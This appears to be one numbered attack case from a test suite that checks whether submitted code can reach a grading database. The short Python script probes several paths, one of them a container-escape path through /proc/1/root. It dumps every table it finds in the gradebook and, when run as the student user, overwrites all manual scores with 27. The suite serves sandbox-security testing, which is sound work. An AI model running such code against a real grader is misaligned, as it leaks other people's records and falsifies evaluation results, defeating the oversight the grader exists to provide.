# attack: 36
# title: the gradebook is opened
# success: its content stands in the output, or it is changed
# naive: leak
import os
import sqlite3

for path in ("@GRADEBOOK@", "/proc/1/root@GRADEBOOK@", "gradebook.db", "../gradebook.db"):
    if not os.path.exists(path):
        print("no", os.path.basename(path))
        continue
    with sqlite3.connect(path) as db:
        for (table,) in db.execute("select name from sqlite_master where type='table'"):
            print(table, db.execute(f"select * from {table} limit 50").fetchall())
    if os.environ.get("HOME") == "/home/student":
        with sqlite3.connect(path) as db:
            db.execute("update grade set manual_score = 27")
